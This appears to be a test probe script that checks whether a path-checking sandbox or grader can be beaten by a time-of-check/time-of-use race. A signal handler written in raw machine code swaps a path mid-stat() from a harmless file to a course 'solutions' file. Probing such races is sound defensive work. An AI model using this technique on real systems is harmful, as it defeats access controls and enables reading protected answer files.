# Changes a path in memory from a signal handler while the kernel is asked about it, so that another one is judged than is used.
# machine: x86_64
import ctypes
import mmap
import os
import signal
import struct

libc = ctypes.CDLL(None, use_errno=True)
GOOD, SECRET = os.__file__.encode() + b"\0", ctypes.create_string_buffer(b"@COURSE@/solutions/tiny.py")
path, room = ctypes.create_string_buffer(4096), ctypes.create_string_buffer(256)
# The handler in machine code, as Python may not run within a signal: rep movsb from SECRET to path.
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
to, source = ctypes.addressof(path), ctypes.addressof(SECRET)
page.write(struct.pack("<2sQ2sQ2sQ3s", b"\x48\xbf", to, b"\x48\xbe", source, b"\x48\xb9", len(SECRET), b"\xf3\xa4\xc3"))
libc.signal.argtypes = [ctypes.c_int, ctypes.c_void_p]
libc.signal(signal.SIGALRM, ctypes.addressof(ctypes.c_char.from_buffer(page)))


def size():
    return struct.unpack_from("<q", room, 48)[0] if libc.stat(path, room) == 0 else None


path.raw = GOOD.ljust(4096, b"\0")
honest, seen, swapped = size(), set(), 0
for round in range(400):
    path.raw = GOOD.ljust(4096, b"\0")
    signal.setitimer(signal.ITIMER_REAL, 1e-6 * (1 + round % 100))
    seen.add(size())
    swapped += path.raw[: len(GOOD)] != GOOD
    signal.setitimer(signal.ITIMER_REAL, 0)
print("swapped", swapped)
print("probe swapped:", "no" if honest and swapped and seen <= {honest, None} else f"ok {honest} {seen} {swapped}")
